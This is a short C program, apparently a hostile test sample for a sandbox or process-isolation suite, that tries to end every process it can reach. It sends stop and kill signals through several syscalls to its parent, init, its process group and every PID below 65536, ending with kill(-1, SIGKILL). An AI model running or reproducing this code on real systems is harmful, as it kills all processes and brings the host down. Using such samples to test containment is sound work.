/* Ends whom it can: its parent, the first process, its group, everything. */
#include "attack.h"

#include <sys/prctl.h>

int main(void)
{
    static const int signals[] = {SIGSTOP, SIGTERM, SIGHUP, SIGKILL};
    prctl(PR_SET_PDEATHSIG, 0);
    for (int one = 0; one < 4; one++) {
        int parent = getppid();
        kill(parent, signals[one]);
        kill(1, signals[one]);
        kill(2, signals[one] == SIGSTOP && getpid() == 2 ? 0 : signals[one]);
        kill(-parent, signals[one]);
        syscall(SYS_tkill, parent, signals[one]);
        syscall(SYS_tgkill, parent, parent, signals[one]);
        long handle = syscall(SYS_pidfd_open, parent, 0);
        syscall(SYS_pidfd_send_signal, handle, signals[one], NULL, 0);
        siginfo_t about = {0};
        syscall(SYS_rt_sigqueueinfo, parent, signals[one], &about);
    }
    for (int process = 1; process < 1 << 16; process++) {
        if (process != getpid()) {
            kill(process, SIGKILL);
        }
    }
    signal(SIGTERM, SIG_IGN);
    kill(0, SIGTERM);
    kill(-1, SIGKILL);
    return 0;
}
